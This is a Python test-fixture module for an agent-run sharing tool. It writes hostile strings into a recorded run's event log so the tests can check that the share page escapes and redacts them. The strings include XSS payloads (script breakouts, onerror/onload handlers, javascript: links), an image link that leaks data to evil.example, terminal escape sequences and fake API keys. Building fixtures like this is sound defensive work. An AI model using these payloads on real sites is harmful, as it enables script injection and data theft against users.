"""Hostile agent text for `mlra share`'s tests, and a real recorded run with it appended
through the typed events, in every place a run's text reaches the page."""

from __future__ import annotations

from pathlib import Path

from mlra import events as ev
from mlra.agent.record.annotations import Annotation, append_annotation
from mlra.agent.record.eventlog import EVENTS_FILE, EventLog, iter_events
from mlra.events.base import PlanStatus

SECRET_KEY = "sk-ant-api03-" + "Q" * 40
GITHUB_TOKEN = "ghp_" + "Z" * 36
ENV_SECRET = "hunter2-is-my-password-xyz"

HOSTILE = (
    "</script><script>window.PWNED=1</script>",
    "<img src=x onerror=alert(1)>",
    "[click](javascript:alert(1))",
    '<a href="javascript:alert(1)">link</a>',
    "![p](https://evil.example/p.png?leak=secret)",
    "<svg onload=alert(1)>",
    "<img src=\"http://127.0.0.1:9/leak.png\" onerror=\"document.body.setAttribute('data-pwned','1')\">",
    "</pre></details><script>document.title='PWNED'</script>",
    "line\u2028sep\u2029para",
    "bidi \u202eevil\u202c end",
    "ansi \x1b[31mred\x1b[0m \x1b]52;c;AAAA\x07",
    "nul \x00 byte",
    "[@click=app.quit]x[/] [bold red]rich[/]",
    "<!-- comment --> &amp; &lt;",
    '" onmouseover="alert(1)',
    f"key {SECRET_KEY} token {GITHUB_TOKEN}",
    f"export OPENAI_API_KEY={ENV_SECRET}",
)
ONE_MB_LINE = "A" * 600_000 + "<script>mid()</script>" + "B" * 500_000
"""A 1 MB line with markup in the part that is cut."""


def hostile_text() -> str:
    return "\n".join(HOSTILE)


def add_hostile_events(run_dir: Path) -> None:
    """Append the corpus to a recorded run's log as the events a run writes."""
    log_path = run_dir / EVENTS_FILE
    last = 0
    for event in iter_events(log_path):
        last = event.seq
    text = hostile_text()
    log = EventLog(log_path, start_seq=last)
    t = 1.0
    try:
        for event in (
            ev.StepStarted(agent="worker", step=3, turn=3, prompt=text),
            ev.WorkerThought(text=text, turn=3, step=3),
            ev.ToolCall(call_id="c1", agent="worker", tool="bash", arguments={"command": text}),
            ev.ToolResult(call_id="c1", tool="bash", agent="worker", ok=False, output=text),
            ev.ToolResult(call_id="c2", tool="bash", agent="worker", ok=True, output=ONE_MB_LINE),
            ev.Notice(level="warning", message=text),
            ev.ToolCall(call_id=HOSTILE[0], agent="worker", tool=HOSTILE[1], raw_arguments=text),
            ev.JobStarted(job=HOSTILE[1], name=HOSTILE[0], command=text, log="jobs/j.log"),
            ev.JobEnded(job=HOSTILE[1], end="exited", exit_code=1, reason=text),
            ev.PlanUpdated(
                agent="worker",
                steps=[ev.PlanStep(id=str(i), title=h, note=h) for i, h in enumerate(HOSTILE)],
            ),
            ev.Metrics(
                source="job:j1",
                job="j1",
                points=[
                    ev.MetricPoint(name=HOSTILE[1], value=float(k % 7), step=k, wall=float(k))
                    for k in range(50)
                ],
            ),
            ev.Metrics(
                source="job:j1",
                job="j1",
                points=[
                    ev.MetricPoint(name="loss", value=1.0 / (k + 1), step=k, wall=float(k))
                    for k in range(5000)
                ],
            ),
            ev.AttemptStarted(attempt="a1", folder="attempts/a1", instructions=text),
            ev.AttemptStarted(attempt="a2", parent="a1", operator="debug", folder="a/a2"),
            ev.AttemptFinished(attempt="a1", status="validated", score=0.5, summary=text),
            ev.AttemptFinished(attempt="a2", status="buggy", why=text),
        ):
            t += 1
            event.t = t
            log.append(event)
    finally:
        log.close()
    append_annotation(run_dir, Annotation(step=1, seq=1, tags=["x"], comment=text[:3000]))


def add_demo_steps(run_dir: Path) -> None:
    """A plan and two steps, for the docs' picture."""
    log_path = run_dir / EVENTS_FILE
    last = max(e.seq for e in iter_events(log_path))
    log = EventLog(log_path, start_seq=last)
    steps: list[tuple[str, str, PlanStatus]] = [
        ("1", "Train the baseline", "done"),
        ("2", "Tune the learning rate", "in_progress"),
    ]
    try:
        for t, event in enumerate(
            (
                ev.PlanUpdated(
                    agent="supervisor",
                    steps=[ev.PlanStep(id=i, title=title, status=st) for i, title, st in steps],
                ),
                ev.StepStarted(agent="worker", step=1, turn=1),
                ev.WorkerThought(text="Train the baseline first.", turn=1, step=1),
                ev.ToolCall(call_id="c1", agent="worker", tool="bash",
                            arguments={"command": "python train.py --steps 400"}),
                ev.ToolResult(call_id="c1", tool="bash", agent="worker", ok=True,
                              output="step 400 loss 0.61\n[exit code 0, 41 s]"),
                ev.StepStarted(agent="worker", step=2, turn=2),
            ),
            start=120,
        ):  # fmt: skip
            event.t = float(t)
            log.append(event)
    finally:
        log.close()


def search_started(run_id: str) -> ev.RunStarted:
    """The start of a recorded search's run or attempt, for the share page's tests of
    what a search's folders give it."""
    return ev.RunStarted(
        run_id=run_id,
        task="tiny-lm",
        task_title="A tiny language model",
        model="openai/scripted",
        limits=ev.Limits(time_limit_s=3600, max_steps=50),
        sandbox=ev.SandboxInfo(
            kind="local", isolation="bwrap", network=False, workdir="/w", workspace="/w"
        ),
    )
